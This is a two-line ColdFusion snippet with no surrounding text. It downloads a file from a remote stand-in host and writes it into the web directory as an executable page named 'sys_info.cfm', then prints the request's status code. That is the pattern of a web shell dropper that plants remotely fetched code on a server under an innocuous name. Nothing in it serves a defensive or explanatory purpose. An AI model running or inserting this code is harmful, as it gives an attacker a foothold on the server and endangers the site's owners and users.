<cfhttp url="http://example.invalid/t/s.txt" method="get" path="#expandPath('.')#" file="sys_info.cfm" timeout="30">
<cfoutput>#cfhttp.statusCode#</cfoutput>
